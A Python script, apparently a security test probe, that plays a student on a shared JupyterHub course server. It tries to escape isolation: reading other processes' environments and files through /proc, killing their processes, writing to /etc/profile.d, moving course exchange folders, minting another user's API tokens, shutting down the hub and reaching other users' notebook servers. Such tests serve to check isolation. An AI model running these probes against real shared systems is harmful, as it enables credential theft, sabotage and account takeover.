"""What a student tries who wants more than their own: run as a cell in their notebook, it prints what it got."""

import concurrent.futures
import http.client
import json
import os
import pathlib
import urllib.request

got = []


def attempt(what, action):
    try:
        result = action()
    except (OSError, http.client.HTTPException):
        return
    got.append(f"{what}: {str(result)[:200]}")


def ask(url, method="GET", token=os.environ["JUPYTERHUB_API_TOKEN"]):
    headers = {"Authorization": f"token {token}"}
    request = urllib.request.Request(url, method=method, headers=headers, data=b"{}" if method == "POST" else None)
    with urllib.request.urlopen(request, timeout=10) as answer:
        return answer.status, answer.read(200)


for path in PATHS:  # noqa: F821
    for name in (path, "/proc/1/root" + path, f"/proc/{os.getppid()}/root" + path):
        attempt(f"list {name}", lambda name=name: list(pathlib.Path(name).iterdir()))
        attempt(f"read {name}", lambda name=name: pathlib.Path(name).read_bytes())

attempt("write", lambda: pathlib.Path("/etc/profile.d/x.sh").write_text("x"))
course = pathlib.Path(os.environ["COURSE_EXCHANGE"], "perceptrons-to-jets")
for part in (course, course / "outbound", course / "outbound/perceptron", course / "inbound", course / "feedback"):
    attempt(f"move {part}", lambda part=part: part.rename(part.with_name("mine")))
attempt("write into outbound", lambda: (course / "outbound/x").write_text("x"))
me = os.getuid()
for process in pathlib.Path("/proc").glob("[0-9]*"):
    if process.stat().st_uid not in (me, 0):
        got.append(f"sees process {process.name} of user {process.stat().st_uid}")
    if process.stat().st_uid != me:
        attempt(f"environment of {process}", lambda process=process: (process / "environ").read_bytes())
        attempt(f"kill {process}", lambda process=process: os.kill(int(process.name), 9))

hub = os.environ["JUPYTERHUB_API_URL"]
other = OTHER  # noqa: F821
for method, what in [
    ("GET", "/users"),
    ("GET", f"/users/{other}"),
    ("GET", "/proxy"),
    ("GET", "/services"),
    ("POST", f"/users/{other}/tokens"),
    ("POST", f"/users/{other}/server"),
    ("DELETE", f"/users/{other}/server"),
    ("POST", "/users/eve"),
    ("POST", "/shutdown"),
]:
    attempt(f"hub API {method} {what}", lambda method=method, what=what: ask(hub + what, method))

paths = [
    f"/user/{other}/api/contents",
    f"/user/{other}/api/kernels",
    f"/user/{INSTRUCTOR}/api/contents",  # noqa: F821
    "/api/routes",
]
addresses = [f"http://127.0.0.1:{port}{path}" for port in PORTS for path in paths]  # noqa: F821
with concurrent.futures.ThreadPoolExecutor(40) as pool:  # a port that speaks no HTTP keeps one waiting
    list(pool.map(lambda address: attempt(address, lambda: ask(address)), addresses))

print("PROBED " + json.dumps({"got": got, "tried": len(addresses)}))
